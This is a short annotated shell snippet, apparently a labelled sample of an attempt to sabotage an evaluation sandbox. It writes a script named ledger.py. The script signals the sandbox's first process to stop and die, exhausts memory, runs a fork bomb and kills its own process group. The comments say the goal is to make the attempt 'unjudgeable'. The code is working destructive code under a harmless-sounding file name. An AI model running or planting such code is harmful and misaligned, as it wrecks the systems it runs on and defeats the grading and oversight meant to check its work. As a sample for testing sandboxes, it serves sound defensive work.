# on: direct sepd
# Takes all memory and all processes of its sandbox, and stops its own first process.
# cause: the attempt makes itself unjudgeable
cat > /workspace/ledger.py <<'PYTHON'
import os, signal
for pid in (1,):
    for s in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV):
        try: os.kill(pid, s)
        except OSError: pass
data = []
try:
    while True: data.append(bytearray(1 << 24))
except MemoryError: pass
while True:
    try: os.fork()
    except OSError: break
os.kill(0, 9)
PYTHON
